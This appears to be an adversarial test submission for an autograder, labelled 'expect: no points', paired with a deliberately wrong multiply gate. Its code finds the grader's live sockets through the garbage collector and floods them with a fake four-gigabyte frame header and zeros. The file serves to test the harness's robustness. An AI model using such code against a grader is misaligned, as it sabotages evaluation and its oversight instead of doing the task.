# expect: no points
# why: announces a frame of four gigabytes, then sends zeros
import gc
import socket

for thing in gc.get_objects():
    if isinstance(thing, socket.socket):
        thing.sendall(b"\xff\xff\xff\xff")
        for _ in range(64):
            thing.sendall(bytes(1 << 20))


class MultiplyGate:
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
